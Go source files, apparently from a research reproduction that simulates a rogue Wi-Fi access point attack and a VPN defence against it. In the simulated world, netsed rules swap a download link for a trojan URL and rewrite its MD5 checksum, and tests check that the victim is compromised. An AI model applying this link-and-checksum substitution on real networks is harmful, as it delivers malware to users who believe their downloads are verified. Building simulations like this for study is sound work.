		trojanSite := &httpx.DownloadSite{FileName: "trojan.tgz", Contents: cfg.TrojanContents}
		genuineSite := &httpx.DownloadSite{FileName: GenuineFile, Contents: cfg.FileContents}
		trojanURL := "http:%2f%2f" + HotspotGateway.String() + "%2ftrojan.tgz"
		proxy, err := netsed.Start(h.Gateway.TCP, netsed.Config{
			ListenPort: 10101,
			Upstream:   inet.HostPort{Addr: WebServerIP, Port: 80},
			Rules: []string{
				"s/href=" + GenuineFile + "/href=" + trojanURL,
				"s/" + genuineSite.MD5Hex() + "/" + trojanSite.MD5Hex(),
			},
		})
		if err != nil {
			panic(err)
		}
		h.Netsed = proxy
		// The operator serves the trojan from the gateway itself.
		gwWeb := httpx.NewServer(h.Gateway.TCP)
		gwWeb.Handle("/trojan.tgz", func(req *httpx.Request) *httpx.Response {
			return httpx.NewResponse(200, "application/octet-stream", cfg.TrojanContents)
		})
		if err := gwWeb.Start(80); err != nil {
			panic(err)
		}
	}

	// The target site out on the internet.
	h.Web = newHost(h.Kernel, "web")
	h.Web.AttachWired(backbone, &h.Alloc, "eth0", WebServerIP, BackbonePrefix)
	h.Web.IP.AddDefaultRoute(RouterBackbone, "eth0")
	// Return route for hotspot clients goes back through the gateway —
	// which IS the backbone router in this topology.
	h.WebServer = httpx.NewServer(h.Web.TCP)
	h.Site = &httpx.DownloadSite{FileName: GenuineFile, Contents: cfg.FileContents}
	h.Site.Install(h.WebServer)
	if err := h.WebServer.Start(80); err != nil {
		panic(err)
	}

	if cfg.VPNServer {
		h.VPNHost = newHost(h.Kernel, "vpn-endpoint")
		h.VPNHost.IP.Forwarding = true
		h.VPNHost.AttachWired(backbone, &h.Alloc, "eth0", VPNEndpointIP, BackbonePrefix)
		h.VPNHost.IP.AddDefaultRoute(RouterBackbone, "eth0")
		sCfg := vpn.ServerConfig{PSK: h.vpnPSK(), Carrier: cfg.VPNCarrier, TunnelPrefix: TunnelPrefix}
		var err error
		if cfg.VPNCarrier == vpn.CarrierUDP {
			h.VPNServer, err = vpn.NewServerUDP(h.VPNHost.IP, h.VPNHost.UDP, sCfg)
		} else {
			h.VPNServer, err = vpn.NewServerTCP(h.VPNHost.IP, h.VPNHost.TCP, sCfg)
		}
		if err != nil {
			panic(err)
		}
		// The web host must route tunnel addresses back via the endpoint.
		h.Web.IP.AddRoute(ipv4.Route{Prefix: TunnelPrefix, Gateway: VPNEndpointIP, Iface: "eth0"})
	}

	// The roaming victim.
	radio := h.Medium.AddRadio(phy.RadioConfig{Name: "victim", Pos: phy.Position{X: 15}, Channel: 1})
	sta := dot11.NewSTA(h.Kernel, radio, dot11.STAConfig{MAC: VictimMAC, SSID: cfg.SSID})
	h.Victim = &WirelessHost{Host: newHost(h.Kernel, "victim"), STA: sta, Radio: radio}
	h.Victim.IP.AddIface("wlan0", sta.NIC(), HotspotVictim, HotspotPrefix)
	h.Victim.IP.AddDefaultRoute(HotspotGateway, "wlan0")
	h.VictimClient = httpx.NewClient(h.Victim.TCP)
	return h
}

func (h *Hotspot) vpnPSK() []byte { return []byte("home-corp-preshared-secret") }

// Run advances virtual time.
func (h *Hotspot) Run(d sim.Time) { h.Kernel.RunFor(d) }

// VictimConnect starts association.
func (h *Hotspot) VictimConnect() { h.Victim.STA.Connect() }

// EnableVictimVPN brings up the tunnel home (requires VPNServer).
func (h *Hotspot) EnableVictimVPN(done func(error)) {
	if h.VPNServer == nil {
		panic("core: hotspot built without VPNServer")
	}
	h.Victim.TCP.MSS = vpn.InnerMSS
	cfg := vpn.ClientConfig{
		PSK:     h.vpnPSK(),
		Server:  inet.HostPort{Addr: VPNEndpointIP, Port: vpn.DefaultPort},
		Carrier: h.Cfg.VPNCarrier,
	}
	var cli *vpn.Client
	var err error
	if h.Cfg.VPNCarrier == vpn.CarrierUDP {
		cli, err = vpn.ConnectUDP(h.Victim.IP, h.Victim.UDP, cfg)
	} else {
		cli, err = vpn.ConnectTCP(h.Victim.IP, h.Victim.TCP, cfg)
	}
	if err != nil {
		done(err)
		return
	}
	h.VictimVPN = cli
	cli.OnUp = func(inet.Addr) { done(nil) }
	cli.OnDown = done
}

// VictimDownload runs the download-and-verify flow against the internet
// site through the hotspot.
func (h *Hotspot) VictimDownload(done func(DownloadResult)) {
	genuine := h.Cfg.FileContents
	pageHP := inet.HostPort{Addr: WebServerIP, Port: 80}
	downloadFlow(h.VictimClient, pageHP, genuine, done)
}
