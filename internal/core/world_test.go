package core

import (
	"bytes"
	"testing"

	"repro/internal/inet"
	"repro/internal/phy"
	"repro/internal/sim"
	"repro/internal/vpn"
	"repro/internal/wep"
)

// settleTime is long enough for scan + join + bridge learning.
const settleTime = 10 * sim.Second

func TestHealthyWorldCleanDownload(t *testing.T) {
	w := NewWorld(Config{Seed: 1})
	w.VictimConnect()
	w.Run(settleTime)
	if !w.VictimAssociated() {
		t.Fatal("victim never associated")
	}
	var res DownloadResult
	got := false
	w.VictimDownload(func(r DownloadResult) { res = r; got = true })
	w.Run(30 * sim.Second)
	if !got {
		t.Fatal("download never completed")
	}
	if res.Err != nil {
		t.Fatalf("download error: %v", res.Err)
	}
	if !res.Clean() {
		t.Fatalf("healthy network produced unclean download: %+v", res)
	}
	if !bytes.Equal(res.Body, w.Cfg.FileContents) {
		t.Fatal("body mismatch")
	}
}

func TestHealthyWorldWithWEP(t *testing.T) {
	w := NewWorld(Config{Seed: 1, WEPKey: wep.Key40FromString("SECRET"), SharedKeyAuth: true})
	w.VictimConnect()
	w.Run(settleTime)
	var res DownloadResult
	w.VictimDownload(func(r DownloadResult) { res = r })
	w.Run(30 * sim.Second)
	if !res.Clean() {
		t.Fatalf("WEP network unclean download: %+v (err=%v)", res, res.Err)
	}
}

// rogueWinsGeometry sets positions that guarantee the rogue wins the
// victim's best-RSSI scan: 2 m from the victim vs 40 m to the real AP.
func rogueWinsGeometry(cfg *Config) {
	cfg.APPos = phy.Position{X: 0, Y: 0}
	cfg.VictimPos = phy.Position{X: 40, Y: 0}
	cfg.RoguePos = phy.Position{X: 42, Y: 0}
}

func TestE2DownloadMITMCompromisesVictim(t *testing.T) {
	// The full Section 4 experiment: WEP on, rogue with the key, cloned
	// BSSID and SSID, parprouted bridge, DNAT, netsed — and the victim's
	// md5sum check PASSES on the trojan.
	cfg := Config{Seed: 1, WEPKey: wep.Key40FromString("SECRET"),
		Rogue: true, RogueCloneBSSID: true}
	rogueWinsGeometry(&cfg)
	w := NewWorld(cfg)
	w.VictimConnect()
	w.Run(settleTime)
	if !w.VictimOnRogue() {
		t.Fatalf("victim not on rogue (state %v, channel %v)", w.Victim.STA.State(), w.Victim.STA.BSS().Channel)
	}
	if !w.Rogue.UplinkUp {
		t.Fatal("rogue's client side never associated to CORP")
	}
	var res DownloadResult
	got := false
	w.VictimDownload(func(r DownloadResult) { res = r; got = true })
	w.Run(60 * sim.Second)
	if !got {
		t.Fatal("download never completed")
	}
	if res.Err != nil {
		t.Fatalf("download failed: %v", res.Err)
	}
	if !res.Tampered {
		t.Fatal("download was not tampered — MITM did not engage")
	}
	if !res.MD5OK {
		t.Fatal("tampered file failed the page's md5 check — netsed missed the sum")
	}
	if !res.Compromised() {
		t.Fatalf("not compromised: %+v", res)
	}
	if !res.LinkRedirected {
		t.Fatal("naive attack should reveal the redirect (paper §4.2)")
	}
	if !bytes.Equal(res.Body, w.Cfg.TrojanContents) {
		t.Fatal("victim did not receive the trojan body")
	}
	if w.Rogue.Netsed.Connections == 0 {
		t.Fatal("netsed proxied no connections")
	}
}

func TestRoguePureRelayLeavesDownloadIntact(t *testing.T) {
	// Bridge-only rogue: the victim still reaches the real site unmodified
	// ("a rogue access point ... not a threat to the clients" — until the
	// MITM module is switched on).
	cfg := Config{Seed: 1, Rogue: true, RogueCloneBSSID: true, RoguePureRelay: true}
	rogueWinsGeometry(&cfg)
	w := NewWorld(cfg)
	w.VictimConnect()
	w.Run(settleTime)
	if !w.VictimOnRogue() {
		t.Fatal("victim not on rogue")
	}
	var res DownloadResult
	w.VictimDownload(func(r DownloadResult) { res = r })
	w.Run(60 * sim.Second)
	if !res.Clean() {
		t.Fatalf("pure relay corrupted the download: %+v err=%v", res, res.Err)
	}
}

func TestE3VPNDefeatsMITM(t *testing.T) {
	// Figure 3: same attack, but the victim tunnels everything to the
	// trusted endpoint. The download must arrive genuine.
	cfg := Config{Seed: 1, WEPKey: wep.Key40FromString("SECRET"),
		Rogue: true, RogueCloneBSSID: true, VPNServer: true}
	rogueWinsGeometry(&cfg)
	w := NewWorld(cfg)
	w.VictimConnect()
	w.Run(settleTime)
	if !w.VictimOnRogue() {
		t.Fatal("victim not on rogue")
	}
	vpnUp := false
	w.EnableVictimVPN(nil, func(err error) {
		if err != nil {
			t.Errorf("vpn: %v", err)
			return
		}
		vpnUp = true
	})
	w.Run(20 * sim.Second)
	if !vpnUp {
		t.Fatal("tunnel never came up through the rogue")
	}
	var res DownloadResult
	w.VictimDownload(func(r DownloadResult) { res = r })
	w.Run(60 * sim.Second)
	if res.Err != nil {
		t.Fatalf("download through VPN failed: %v", res.Err)
	}
	if res.Tampered {
		t.Fatal("VPN-protected download was tampered")
	}
	if !res.Clean() {
		t.Fatalf("not clean: %+v", res)
	}
	if w.Rogue.Netsed != nil && w.Rogue.Netsed.ReplacementsIn > 0 {
		t.Fatal("netsed rewrote tunnel traffic?!")
	}
}

func TestE3SplitTunnelStillCompromised(t *testing.T) {
	// Ablation: tunnel only some unrelated prefix; web traffic stays
	// outside the tunnel and the MITM still wins. "Must handle all client
	// traffic" (§5.2, requirement 4).
	cfg := Config{Seed: 1, Rogue: true, RogueCloneBSSID: true, VPNServer: true}
	rogueWinsGeometry(&cfg)
	w := NewWorld(cfg)
	w.VictimConnect()
	w.Run(settleTime)
	vpnUp := false
	w.EnableVictimVPN([]inet.Prefix{inet.MustParsePrefix("172.16.0.0/12")}, func(err error) {
		vpnUp = err == nil
	})
	w.Run(20 * sim.Second)
	if !vpnUp {
		t.Fatal("split tunnel never came up")
	}
	var res DownloadResult
	w.VictimDownload(func(r DownloadResult) { res = r })
	w.Run(60 * sim.Second)
	if !res.Compromised() {
		t.Fatalf("split tunnel should NOT protect the download: %+v err=%v", res, res.Err)
	}
}

func TestVPNOverUDPCarrier(t *testing.T) {
	cfg := Config{Seed: 1, Rogue: true, RogueCloneBSSID: true,
		VPNServer: true, VPNCarrier: vpn.CarrierUDP}
	rogueWinsGeometry(&cfg)
	w := NewWorld(cfg)
	w.VictimConnect()
	w.Run(settleTime)
	vpnUp := false
	w.EnableVictimVPN(nil, func(err error) { vpnUp = err == nil })
	w.Run(20 * sim.Second)
	if !vpnUp {
		t.Fatal("UDP-carrier tunnel never came up")
	}
	var res DownloadResult
	w.VictimDownload(func(r DownloadResult) { res = r })
	w.Run(60 * sim.Second)
	if !res.Clean() {
		t.Fatalf("UDP tunnel download not clean: %+v err=%v", res, res.Err)
	}
}

func TestDeterminism(t *testing.T) {
	run := func() DownloadResult {
		cfg := Config{Seed: 42, Rogue: true, RogueCloneBSSID: true}
		rogueWinsGeometry(&cfg)
		w := NewWorld(cfg)
		w.VictimConnect()
		w.Run(settleTime)
		var res DownloadResult
		w.VictimDownload(func(r DownloadResult) { res = r })
		w.Run(60 * sim.Second)
		return res
	}
	a, b := run(), run()
	if a.Compromised() != b.Compromised() || !bytes.Equal(a.Body, b.Body) {
		t.Fatal("same seed, different outcome")
	}
}

func TestSweepParallelism(t *testing.T) {
	seeds := Seeds(7, 8)
	results := Sweep(seeds, func(seed uint64) bool {
		cfg := Config{Seed: seed, Rogue: true, RogueCloneBSSID: true}
		rogueWinsGeometry(&cfg)
		w := NewWorld(cfg)
		w.VictimConnect()
		w.Run(settleTime)
		var res DownloadResult
		w.VictimDownload(func(r DownloadResult) { res = r })
		w.Run(60 * sim.Second)
		return res.Compromised()
	})
	if Fraction(results) < 0.9 {
		t.Fatalf("attack success fraction %v across seeds", Fraction(results))
	}
}

func TestSeedsDistinct(t *testing.T) {
	s := Seeds(1, 100)
	seen := map[uint64]bool{}
	for _, v := range s {
		if seen[v] {
			t.Fatal("duplicate seed")
		}
		seen[v] = true
	}
}

func TestMeanAndFraction(t *testing.T) {
	if Mean(nil) != 0 || Fraction(nil) != 0 {
		t.Fatal("empty cases")
	}
	if Mean([]float64{1, 2, 3}) != 2 {
		t.Fatal("mean")
	}
	if Fraction([]bool{true, false, true, true}) != 0.75 {
		t.Fatal("fraction")
	}
}
