package core

import (
	"runtime"
	"testing"
)

// TestOverlayScenarioDigestStability is the mesh robustness acceptance
// gate: the overlay scenarios — including chaos-relay's full failover,
// rekey, and route re-convergence — must produce byte-identical trace
// digests under every determinism seed, at GOMAXPROCS 1 (Sweep's
// sequential fallback) and 4 (parallel workers), with the kernel both
// serial (workers=0) and conservative-window parallel (workers=4,
// DESIGN.md §14). A divergence here means the mesh machinery leaked
// nondeterminism (map order on the wire, shared state across worlds,
// unseeded jitter) into the trace — or the windowed kernel reordered a
// commit.
func TestOverlayScenarioDigestStability(t *testing.T) {
	type point struct {
		scenario string
		seed     uint64
	}
	var pts []point
	for _, scenario := range []string{"mesh", "chaos-relay"} {
		for _, seed := range []uint64{1, 7, 42} {
			pts = append(pts, point{scenario, seed})
		}
	}
	runWith := func(workers int) func(point) uint64 {
		return func(p point) uint64 {
			o, err := RunScenarioOpts(p.scenario, p.seed, ScenarioOpts{Checks: true, Workers: workers})
			if err != nil {
				t.Errorf("%s seed %d: %v", p.scenario, p.seed, err)
				return 0
			}
			if !o.Download.Clean() {
				t.Errorf("%s seed %d: download not clean", p.scenario, p.seed)
			}
			return o.Digest
		}
	}
	defer runtime.GOMAXPROCS(runtime.GOMAXPROCS(0))
	var runs [][]uint64
	for _, procs := range []int{1, 4} {
		runtime.GOMAXPROCS(procs)
		runs = append(runs, Sweep(pts, runWith(0)), Sweep(pts, runWith(4)))
	}
	for i, p := range pts {
		for r := 1; r < len(runs); r++ {
			if runs[r][i] != runs[0][i] {
				t.Errorf("%s seed %d: digest diverged across replays/procs: %016x != %016x",
					p.scenario, p.seed, runs[r][i], runs[0][i])
			}
		}
		if runs[0][i] == 0 {
			t.Errorf("%s seed %d: zero digest", p.scenario, p.seed)
		}
	}
}

// TestChaosRelayFailoverOutcome pins the semantics of the failover, not
// just its digest: the first-hop partition must trip the tunnel's DPD, the
// chain must be rebuilt through the surviving relay (a rekey into the SAME
// origin-keyed session, so the tunnel address survives), and the download
// must still finish clean.
func TestChaosRelayFailoverOutcome(t *testing.T) {
	for _, seed := range []uint64{1, 7, 42} {
		o, err := RunScenario("chaos-relay", seed, true)
		if err != nil {
			t.Fatal(err)
		}
		w := o.World
		if !o.Converged {
			t.Errorf("seed %d: did not converge", seed)
		}
		if !o.VPNUp || w.VictimVPN == nil || !w.VictimVPN.Up() {
			t.Fatalf("seed %d: tunnel not up at end", seed)
		}
		if !o.Download.Clean() {
			t.Errorf("seed %d: download not clean", seed)
		}
		if w.VictimVPN.PeerTimeouts == 0 {
			t.Errorf("seed %d: the partition never tripped tunnel DPD", seed)
		}
		if w.VictimVPN.Rekeys == 0 {
			t.Errorf("seed %d: failover did not rekey", seed)
		}
		if w.VPNServer.Handshakes < 2 {
			t.Errorf("seed %d: server saw %d handshakes, want the rebuild to re-handshake",
				seed, w.VPNServer.Handshakes)
		}
		if ip := w.VictimVPN.TunnelIP(); ip != w.VPNServer.SessionIPs()[0] {
			t.Errorf("seed %d: tunnel IP %v not retained by the origin-keyed session %v",
				seed, ip, w.VPNServer.SessionIPs())
		}
		// The relay chain healed too: the client's dialed links redialed
		// through the outage and both first hops are up again at the end.
		if got := w.OverlayClient.LinksUp(); got != 2 {
			t.Errorf("seed %d: client links up = %d, want 2", seed, got)
		}
		if w.OverlayClient.LinkReconnects() == 0 {
			t.Errorf("seed %d: no link redials — the partition was invisible?", seed)
		}
	}
}
