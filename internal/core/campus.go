package core

import (
	"encoding/binary"
	"fmt"

	"repro/internal/dot11"
	"repro/internal/ethernet"
	"repro/internal/faults"
	"repro/internal/phy"
	"repro/internal/sim"
)

// CampusWorld instantiates a generated Topology on the sharded medium: many
// APs sharing one ESS, clustered stations that scan/join on their own
// staggered schedules and then offer traffic per their class, and optionally
// a rogue AP cloning the campus SSID at higher power next to one cluster
// (the paper's §4 attack, scaled from one victim to a crowd). It is the
// workload behind the campus scenarios, experiment E15, and the
// BenchmarkCampusWorld throughput bench — large enough that the medium's
// per-neighborhood delivery cost, not the station count, must carry the run.

// CampusSSID is the ESS every campus AP (and the rogue) advertises.
const CampusSSID = "CAMPUS"

// CampusRogueBSSID is the rogue AP's own BSSID. It deliberately does NOT
// clone a real AP's address: capture is counted by which BSSID a station
// lands on, and a distinct address keeps that observable.
var CampusRogueBSSID = ethernet.MAC{0x02, 0xca, 0xff, 0x00, 0x00, 0x01}

// CampusConfig configures NewCampusWorld.
type CampusConfig struct {
	// Topology describes the layout; Topology.Seed defaults to Seed.
	Topology TopologyConfig
	// Seed seeds the kernel (and everything downstream of it).
	Seed uint64
	// Checks enables kernel invariant checking.
	Checks bool
	// Workers selects the kernel execution mode (sim.Kernel.SetWorkers):
	// 0 is the classic serial loop, n >= 1 the conservative-window loop
	// with n prepare lanes. Digests are byte-identical either way.
	Workers int

	// Rogue plants a high-power AP cloning CampusSSID beside AP 0's
	// cluster; stations that hear it louder than their home AP join it.
	Rogue bool
	// RoguePowerDBm defaults to 21 dBm — a 6 dB shout over the campus
	// radios' 15.
	RoguePowerDBm float64

	// Faults, when set, is a fault schedule (builtin name or raw string)
	// armed against station 0 and its home AP — the campus analogue of
	// the single-victim chaos worlds.
	Faults string
}

// CampusWorld is an assembled campus.
type CampusWorld struct {
	Cfg    CampusConfig
	Topo   *Topology
	Kernel *sim.Kernel
	Medium *phy.Medium
	APs    []*dot11.AP
	STAs   []*dot11.STA
	Rogue  *dot11.AP
	Faults *faults.Engine

	// APFrames counts data frames each AP's host side received from its
	// stations — the campus's delivered-traffic measure.
	APFrames []uint64
	// RogueFrames counts station data frames the rogue harvested.
	RogueFrames uint64

	staRadios []*phy.Radio
	// rng drives traffic jitter. It is forked from the kernel RNG at
	// construction and drawn from only inside kernel events, so the draw
	// sequence is a pure function of the seed.
	rng *sim.RNG
}

// NewCampusWorld generates (or validates) the topology and assembles the
// world. Construction-time misconfiguration panics, like NewWorld.
func NewCampusWorld(cfg CampusConfig) *CampusWorld {
	if cfg.RoguePowerDBm == 0 {
		cfg.RoguePowerDBm = 21
	}
	if cfg.Topology.Seed == 0 {
		cfg.Topology.Seed = cfg.Seed
	}
	topo := GenerateTopology(cfg.Topology)
	if err := topo.Validate(); err != nil {
		panic(err)
	}

	w := &CampusWorld{Cfg: cfg, Topo: topo}
	w.Kernel = sim.NewKernel(cfg.Seed)
	w.Kernel.SetInvariantChecks(cfg.Checks)
	w.Kernel.SetWorkers(cfg.Workers)
	w.Medium = phy.NewMedium(w.Kernel, phy.Config{})
	w.rng = w.Kernel.RNG().Fork()
	w.APFrames = make([]uint64, len(topo.APs))

	for i, p := range topo.APs {
		radio := w.Medium.AddRadio(phy.RadioConfig{Name: p.Name, Pos: p.Pos, Channel: p.Channel})
		ap := dot11.NewAP(w.Kernel, radio, dot11.APConfig{
			SSID: CampusSSID, BSSID: p.BSSID, Channel: p.Channel,
		})
		i := i
		ap.HostNIC().SetReceiver(func(f ethernet.Frame) { w.APFrames[i]++ })
		w.APs = append(w.APs, ap)
	}

	if cfg.Rogue {
		// Beside AP 0's cluster, off-center so part of the cluster hears
		// the rogue closer than home; the power advantage does the rest.
		home := topo.APs[0]
		ch := phy.Channel(6)
		if home.Channel == 6 {
			ch = 11
		}
		radio := w.Medium.AddRadio(phy.RadioConfig{
			Name:    "campus-rogue",
			Pos:     phy.Position{X: home.Pos.X + 6, Y: home.Pos.Y + 4},
			Channel: ch, TxPowerDBm: cfg.RoguePowerDBm,
		})
		w.Rogue = dot11.NewAP(w.Kernel, radio, dot11.APConfig{
			SSID: CampusSSID, BSSID: CampusRogueBSSID, Channel: ch,
		})
		w.Rogue.HostNIC().SetReceiver(func(f ethernet.Frame) { w.RogueFrames++ })
	}

	// The join/traffic fan-out is the construction hot path at E15 scale:
	// two events per station, all landing in the first few seconds. One
	// ScheduleBatch amortizes the wheel's slot lookups across stations
	// sharing a tick; entry order (Connect, then traffic tick, per station
	// in placement order) matches the sequential Schedule calls it
	// replaces, so event seqs — and the digest — are unchanged.
	entries := make([]sim.BatchEntry, 0, 2*len(topo.STAs))
	for i, p := range topo.STAs {
		radio := w.Medium.AddRadio(phy.RadioConfig{Name: p.Name, Pos: p.Pos, Channel: 1})
		sta := dot11.NewSTA(w.Kernel, radio, dot11.STAConfig{
			MAC: p.MAC, SSID: CampusSSID, // JoinBestRSSI: the rogue's opening
		})
		w.STAs = append(w.STAs, sta)
		w.staRadios = append(w.staRadios, radio)
		entries = append(entries, sim.BatchEntry{When: p.JoinAt, Fn: sta.Connect})
		entries = w.appendTraffic(entries, i, sta, p)
	}
	w.Kernel.ScheduleBatch(entries)

	if cfg.Faults != "" {
		w.installFaults()
	}
	return w
}

// appendTraffic appends the station's offered-load kickoff to the
// construction batch: nothing for idle, one 256-byte frame per ~second for
// light, a 4-frame 512-byte burst per ~two seconds for bursty. Frames go to
// the joined BSSID (whoever that turned out to be — traffic into a rogue is
// exactly what it harvests), and burst frames are paced 2 ms apart so a
// station never collides with itself. The jitter draw happens here, at
// construction, in station order — part of the seed's draw sequence.
func (w *CampusWorld) appendTraffic(entries []sim.BatchEntry, i int, sta *dot11.STA, p STAPlacement) []sim.BatchEntry {
	var interval sim.Time
	var frames, size int
	switch p.Traffic {
	case TrafficLight:
		interval, frames, size = sim.Second, 1, 256
	case TrafficBursty:
		interval, frames, size = 2*sim.Second, 4, 512
	default:
		return entries
	}
	payload := make([]byte, size)
	binary.BigEndian.PutUint32(payload, uint32(i))
	var tick func()
	tick = func() {
		if sta.State() == dot11.StateAssociated {
			bssid := sta.BSS().BSSID
			for n := 0; n < frames; n++ {
				n := n
				w.Kernel.ScheduleAfter(sim.Time(n)*2*sim.Millisecond, func() {
					if sta.State() != dot11.StateAssociated {
						return
					}
					payload[4] = byte(n)
					sta.NIC().Send(bssid, ethernet.TypeIPv4, payload)
				})
			}
		}
		w.Kernel.ScheduleAfter(interval+w.rng.Jitter(interval/2), tick)
	}
	return append(entries, sim.BatchEntry{When: p.JoinAt + interval/2 + w.rng.Jitter(interval), Fn: tick})
}

// installFaults arms the chaos engine against the campus: station 0 is the
// victim, its home AP the crash/quiet target — the same roles the
// single-victim worlds give the corp AP and the victim laptop.
func (w *CampusWorld) installFaults() {
	sched, err := faults.Resolve(w.Cfg.Faults)
	if err != nil {
		panic(err)
	}
	if len(w.STAs) == 0 {
		panic(fmt.Errorf("campus: fault schedule %q needs at least one station", w.Cfg.Faults))
	}
	victim := w.Topo.STAs[0]
	home := w.Topo.APs[victim.Home]
	eng := faults.New(w.Kernel, faults.Targets{
		Medium:    w.Medium,
		AP:        w.APs[victim.Home],
		STARadio:  w.staRadios[0],
		VictimMAC: victim.MAC,
		BSSID:     home.BSSID,
		Channel:   home.Channel,
		AttackPos: phy.Position{X: victim.Pos.X + 2, Y: victim.Pos.Y},
	})
	if err := eng.Install(sched); err != nil {
		panic(err)
	}
	w.Faults = eng
}

// Run advances the campus by d.
func (w *CampusWorld) Run(d sim.Time) { w.Kernel.RunFor(d) }

// CampusResult is a snapshot of the campus's observables.
type CampusResult struct {
	APs, STAs int
	// Associated counts stations currently in the associated state (on
	// any AP, rogue included).
	Associated int
	// OnRogue counts stations associated to the rogue BSSID.
	OnRogue int
	// APFrames sums data frames delivered to legitimate AP hosts;
	// RogueFrames is what the rogue harvested instead.
	APFrames    uint64
	RogueFrames uint64
	// Deliveries is the medium's total frame-delivery count — the
	// throughput denominator E15 reports.
	Deliveries uint64
}

// CaptureRate is the fraction of the campus the rogue holds.
func (r CampusResult) CaptureRate() float64 {
	if r.STAs == 0 {
		return 0
	}
	return float64(r.OnRogue) / float64(r.STAs)
}

// Result reads the campus observables at the current instant.
func (w *CampusWorld) Result() CampusResult {
	r := CampusResult{
		APs: len(w.APs), STAs: len(w.STAs),
		RogueFrames: w.RogueFrames,
		Deliveries:  w.Medium.Deliveries,
	}
	for _, sta := range w.STAs {
		if sta.State() != dot11.StateAssociated {
			continue
		}
		r.Associated++
		if w.Rogue != nil && sta.BSS().BSSID == CampusRogueBSSID {
			r.OnRogue++
		}
	}
	for _, n := range w.APFrames {
		r.APFrames += n
	}
	return r
}

// campusScenarioScale keeps the named scenarios small enough for the
// determinism harness (which replays every named scenario several times per
// seed); E15 runs the same world at 256/1k/4k stations.
const (
	campusScenarioAPs  = 12
	campusScenarioSTAs = 72
)

// campusScenarioDuration covers the staggered joins, the scan/associate
// window, and several traffic intervals.
const campusScenarioDuration = 12 * sim.Second

// runCampusScenario drives the campus and campus-rogue scenarios.
func runCampusScenario(name string, seed uint64, opts ScenarioOpts) *ScenarioOutcome {
	cfg := CampusConfig{
		Seed:    seed,
		Checks:  opts.Checks,
		Workers: opts.Workers,
		Rogue:   name == "campus-rogue",
		Faults:  opts.Faults,
		Topology: TopologyConfig{
			Kind: TopoCampus, Seed: seed,
			APs: campusScenarioAPs, STAs: campusScenarioSTAs,
		},
	}
	w := NewCampusWorld(cfg)
	o := &ScenarioOutcome{Name: name, Campus: w}

	w.Run(campusScenarioDuration)
	if w.Faults != nil {
		// Same recovery contract as the chaos scenarios: a fixed deadline
		// after the last fault clears, checked once.
		if deadline := w.Faults.LastEnd() + convergenceGrace; deadline > w.Kernel.Now() {
			w.Run(deadline - w.Kernel.Now())
		}
	}

	r := w.Result()
	o.CampusResult = r
	o.milestonef("campus up: %d/%d stations associated across %d APs (%d data frames bridged)",
		r.Associated, r.STAs, r.APs, r.APFrames)
	if cfg.Rogue {
		o.milestonef("rogue holds %d/%d stations (%.0f%% capture, %d frames harvested)",
			r.OnRogue, r.STAs, 100*r.CaptureRate(), r.RogueFrames)
	}
	o.Converged = r.Associated == r.STAs
	if w.Faults != nil {
		o.Converged = o.Converged && w.Faults.Quiescent()
		o.milestonef("chaos converged: %v (faults applied %d, reverted %d)",
			o.Converged, w.Faults.Applied, w.Faults.Reverted)
	}
	o.Digest = w.Kernel.Digest()
	return o
}
