package core

import (
	"strings"

	"repro/internal/attack"
	"repro/internal/dot11"
	"repro/internal/ethernet"
	"repro/internal/faults"
	"repro/internal/httpx"
	"repro/internal/inet"
	"repro/internal/ipv4"
	"repro/internal/phy"
	"repro/internal/sim"
	"repro/internal/vpn"
	"repro/internal/wep"
)

// Canonical addressing of the reproduction world.
var (
	// Corp LAN (wireless bridged with wired): 10.0.0.0/24.
	CorpPrefix = inet.MustParsePrefix("10.0.0.0/24")
	RouterCorp = inet.MustParseAddr("10.0.0.1")
	VictimIP   = inet.MustParseAddr("10.0.0.3")
	RogueWlan  = inet.MustParseAddr("10.0.0.201")
	RogueEth   = inet.MustParseAddr("10.0.0.200")

	// Secure wired / "internet" side: 198.18.0.0/24.
	BackbonePrefix = inet.MustParsePrefix("198.18.0.0/24")
	RouterBackbone = inet.MustParseAddr("198.18.0.1")
	WebServerIP    = inet.MustParseAddr("198.18.0.80")
	VPNEndpointIP  = inet.MustParseAddr("198.18.0.44")

	// Overlay relay hosts (Config.Overlay): two independent first hops, so
	// the mesh always has an alternate chain to fail over to.
	Relay1IP = inet.MustParseAddr("198.18.0.51")
	Relay2IP = inet.MustParseAddr("198.18.0.52")

	// TunnelPrefix is the VPN virtual subnet.
	TunnelPrefix = inet.MustParsePrefix("10.99.0.0/24")
)

// CorpBSSID is the real AP's BSSID — the paper's Figure 1 shows the rogue
// cloning it.
var CorpBSSID = ethernet.MustParseMAC("02:aa:bb:cc:dd:01")

// VictimMAC is the victim laptop's address.
var VictimMAC = ethernet.MustParseMAC("02:00:00:00:03:01")

// RogueSTAMAC is the attacker's client-side card (before any cloning).
var RogueSTAMAC = ethernet.MustParseMAC("02:00:00:00:66:01")

// Config selects what to build. The zero value is a healthy network: CORP AP
// on channel 1, a victim, a router, and the target web site — no attacker.
type Config struct {
	Seed uint64
	SSID string // default "CORP"

	// Checks enables the kernel's invariant checking (sim.Kernel.
	// SetInvariantChecks) for this world. It must be decided at
	// construction: components install extra accounting (e.g. the WEP IV
	// tracker) only when checks are on. Tests turn it on; cmd/roguesim
	// exposes it as -check.
	Checks bool

	// Workers selects the kernel execution mode (sim.Kernel.SetWorkers):
	// 0 — the default — is the classic serial event loop; n >= 1 enables
	// the conservative-window loop with n prepare lanes. Digests are
	// byte-identical either way; cmd/roguesim exposes it as -workers.
	Workers int

	// WEPKey protects the wireless network when set ("SECRET" in Fig. 1).
	WEPKey wep.Key
	// MACFilter restricts the real AP to the victim's (and, if cloned,
	// the attacker's) MAC.
	MACFilter bool
	// SharedKeyAuth makes stations use WEP shared-key authentication.
	SharedKeyAuth bool

	// Geometry (defaults: AP at origin, victim 20 m away, rogue 5 m from
	// the victim).
	APPos, VictimPos, RoguePos phy.Position
	APChannel                  phy.Channel // default 1
	ShadowingSigmaDB           float64

	// Rogue enables the attacker.
	Rogue bool
	// RogueChannel defaults to 6 (Figure 1).
	RogueChannel phy.Channel
	// RogueTxPowerDBm defaults to 15 (same as everyone).
	RogueTxPowerDBm float64
	// RogueCloneBSSID: clone the real BSSID (Figure 1 behaviour). If
	// false the rogue uses its own BSSID (still same SSID).
	RogueCloneBSSID bool
	// RogueStationMAC overrides the attacker's client-side MAC (for the
	// MAC-filter bypass, clone VictimMAC or a harvested MAC).
	RogueStationMAC ethernet.MAC
	// StreamingNetsed selects the boundary-safe rewriter.
	StreamingNetsed bool
	// ExtraNetsedRules appends additional substitutions to the rogue's
	// netsed (e.g. §5.1's script injection into any trusted page).
